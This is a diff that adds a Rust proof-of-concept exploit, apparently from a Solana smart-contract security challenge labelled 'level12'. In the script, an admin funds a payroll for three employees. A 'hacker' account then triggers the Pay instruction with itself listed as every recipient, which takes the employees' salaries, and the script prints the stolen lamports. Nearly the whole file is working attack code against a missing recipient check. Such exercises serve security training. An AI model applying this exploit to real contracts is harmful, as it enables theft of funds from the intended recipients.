@@ -0,0 +1,118 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        system_instruction,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum PayrollInstruction {
+    Initialize { salary: u64, recipients: Vec<Pubkey> },
+    Pay,
+}
+// We use the same Structure created in the Smart Contract
+#[derive(Clone, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Payroll {
+    pub admin: Pubkey,
+    pub salary: u64,
+    pub last_paid: i64,
+    pub recipients: Vec<Pubkey>,
+}
+
+pub fn get_payroll_address(admin: Pubkey, payroll_program: Pubkey) -> Pubkey {
+    let (payroll_address, _) =
+        Pubkey::find_program_address(&[&"PAYROLL".as_bytes(), &admin.to_bytes()], &payroll_program);
+    payroll_address
+}
+
+fn pay(programa: Pubkey, payroll: Pubkey, recipients: &[Pubkey]) -> Instruction {
+    let mut accounts = vec![AccountMeta::new(payroll, false)];
+    for recipient in recipients {
+        accounts.push(AccountMeta::new(*recipient, false));
+    }
+    Instruction {
+        program_id: programa,
+        accounts,
+        data: PayrollInstruction::Pay.try_to_vec().unwrap(),
+    }
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level12-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let admin = actors.get("admin");
+    let hacker = actors.get("hacker");
+    let employees = vec![actors.pubkey("employee1"), actors.pubkey("employee2"), actors.pubkey("employee3")];
+
+    let payroll = get_payroll_address(admin.pubkey(), programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("admin"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(hacker.pubkey(), LAMPORTS_PER_SOL);
+
+    /* First the admin sets up a Payroll of 1 SOL a month for 3 employees, and funds this month */
+    env.execute_as_transaction(
+        &[
+            Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(payroll, false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: PayrollInstruction::Initialize { salary: LAMPORTS_PER_SOL, recipients: employees.clone() }
+                    .try_to_vec()
+                    .unwrap(),
+            },
+            system_instruction::transfer(&admin.pubkey(), &payroll, 3 * LAMPORTS_PER_SOL),
+        ],
+        &[&admin],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Payroll: ".bold().blue(), env.get_deserialized_account::<Payroll>(payroll).unwrap().blue());
+    println!("{} {:?}", "Payroll lamports: ".bold().blue(), env.get_account(payroll).unwrap().lamports.blue());
+    println!("");
+
+    /* Second we crank the payday first, with our own account in every recipient slot */
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    env.execute_as_transaction(
+        &[pay(programa, payroll, &[hacker.pubkey(), hacker.pubkey(), hacker.pubkey()])],
+        &[],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*       PAYDAY WITH OUR OWN RECIPIENTS     *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Payroll lamports: ".bold().red(), env.get_account(payroll).unwrap().lamports.red());
+    for employee in employees.iter() {
+        println!("{} {:?}", "Employee lamports: ".bold().red(),
+        env.get_account(*employee).map(|employee| employee.lamports).unwrap_or(0).red());
+    }
+    println!("{} {:?}", "Hacker earned: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}